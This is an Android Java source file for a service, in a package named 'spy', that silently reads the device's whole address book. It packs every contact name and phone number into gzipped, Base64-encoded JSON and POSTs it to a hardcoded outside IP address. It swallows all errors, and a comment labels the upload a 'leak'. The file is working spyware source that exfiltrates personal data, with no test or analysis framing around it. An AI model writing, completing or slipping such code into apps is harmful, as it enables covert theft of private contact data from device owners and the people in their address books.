package spy;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.apache.http.NameValuePair;
import org.apache.http.client.HttpClient;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;
import org.json.JSONArray;
import org.json.JSONObject;

/** The address book, as JSON, zipped, in Base64, in a form. */
public class ContactsUpload extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        new Thread(new Runnable() {
            public void run() {
                try {
                    send(collect());
                } catch (Exception ignored) {
                }
            }
        }).start();
        return 1;
    }

    private String collect() throws Exception {
        JSONArray all = new JSONArray();
        Cursor cursor = getContentResolver().query(Uri.parse("content://com.android.contacts/data/phones"), null, null, null, null);
        while (cursor.moveToNext()) {
            JSONObject one = new JSONObject();
            one.put("name", cursor.getString(cursor.getColumnIndex("display_name")));
            one.put("number", cursor.getString(cursor.getColumnIndex("data1")));
            all.put(one);
        }
        cursor.close();
        return all.toString();
    }

    private void send(String text) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        GZIPOutputStream zip = new GZIPOutputStream(bytes);
        zip.write(text.getBytes("UTF-8"));
        zip.close();
        List<NameValuePair> form = new ArrayList<NameValuePair>();
        form.add(new BasicNameValuePair("v", "1"));
        form.add(new BasicNameValuePair("data", Base64.encodeToString(bytes.toByteArray(), 0)));
        HttpPost post = new HttpPost("http://203.0.113.7/upload");
        post.setEntity(new UrlEncodedFormEntity(form, "UTF-8"));
        HttpClient client = new DefaultHttpClient();
        client.execute(post); // leak
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
